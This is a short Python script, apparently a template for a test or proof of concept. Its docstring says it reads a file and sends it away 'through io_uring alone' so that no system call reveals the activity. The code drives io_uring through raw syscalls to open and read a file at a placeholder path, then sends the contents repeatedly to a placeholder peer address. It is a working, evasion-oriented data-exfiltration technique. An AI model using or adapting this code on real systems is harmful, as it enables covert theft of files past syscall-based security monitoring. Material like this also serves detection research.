"""Reads a file and sends it away through io_uring alone: but for its set-up no system call tells."""

import ctypes, mmap, os, socket, struct

libc = ctypes.CDLL(None, use_errno=True)
ENTRIES, OPENAT, READ, CONNECT, SEND = 8, 18, 22, 16, 26
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, ENTRIES, params)
assert ring >= 0, ctypes.get_errno()
sq_entries, cq_entries = struct.unpack_from("II", params, 0)
sq = struct.unpack_from("IIIIIIIIQ", params, 40)  # head tail mask entries flags dropped array
cq = struct.unpack_from("IIIIIIIIQ", params, 80)  # head tail mask entries overflow cqes
size = max(sq[6] + 4 * sq_entries, cq[5] + 16 * cq_entries)
rings = mmap.mmap(ring, size, offset=0)
entries = mmap.mmap(ring, 64 * sq_entries, offset=0x10000000)
put = lambda at, value: struct.pack_into("I", rings, at, value)
get = lambda at: struct.unpack_from("I", rings, at)[0]


def submit(opcode, fd, address, length, offset=0):
    tail = get(sq[1])
    index = tail & get(sq[2])
    struct.pack_into("BBHiQQI", entries, 64 * index, opcode, 0, 0, fd, offset, address, length)
    entries[64 * index + 28 : 64 * index + 64] = bytes(36)
    put(sq[6] + 4 * index, index)
    put(sq[1], tail + 1)
    assert libc.syscall(426, ring, 1, 1, 1, None, 0) == 1, ctypes.get_errno()
    head = get(cq[0])
    result = struct.unpack_from("i", rings, cq[5] + 16 * (head & get(cq[2])) + 8)[0]
    put(cq[0], head + 1)
    return result


path = ctypes.create_string_buffer(b"@PATH@")
buffer = ctypes.create_string_buffer(65536)
fd = submit(OPENAT, -100, ctypes.addressof(path), 0)
length = submit(READ, fd, ctypes.addressof(buffer), 65536)
out = socket.socket()
peer = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(@PORT@), socket.inet_aton("@PEER@"))
peer = ctypes.create_string_buffer(peer, 16)
assert submit(CONNECT, out.fileno(), ctypes.addressof(peer), 0, 16) == 0
for _ in range(20):
    assert submit(SEND, out.fileno(), ctypes.addressof(buffer), length) > 0
